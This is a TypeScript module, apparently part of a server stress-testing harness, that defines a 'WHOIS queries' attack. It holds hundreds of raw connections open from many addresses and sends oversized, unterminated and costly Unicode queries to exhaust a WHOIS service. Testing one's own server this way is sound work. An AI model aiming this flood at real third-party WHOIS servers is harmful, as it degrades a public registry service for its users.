import type { Attack } from './attack.ts';
import { addressOf, holdOpen, openRaw } from './raw-connection.ts';

const CONNECTIONS = 300;
const NETWORKS = 100;
const REOPEN_AFTER_MS = 500;
const QUERIES = [
  'x'.repeat(60_000),
  `${'õ'.repeat(500)}.ee\r\n`,
  `${'xn--'.repeat(250)}\r\n`,
  `${'\u0301\u0316'.repeat(250)}.ee\r\n`,
  'free.ee\r\n',
  'f',
];

/** Queries from many addresses: without an end, of letters that cost most, ordinary ones, and single characters. */
export const whoisQueries: Attack = {
  name: 'WHOIS queries',
  start: ({ whoisPort = 0 }) =>
    holdOpen(
      CONNECTIONS,
      (index) => {
        const socket = openRaw(whoisPort, addressOf(index % NETWORKS)).resume();
        socket.write(QUERIES[index % QUERIES.length] ?? '');
        return socket;
      },
      REOPEN_AFTER_MS,
    ),
};
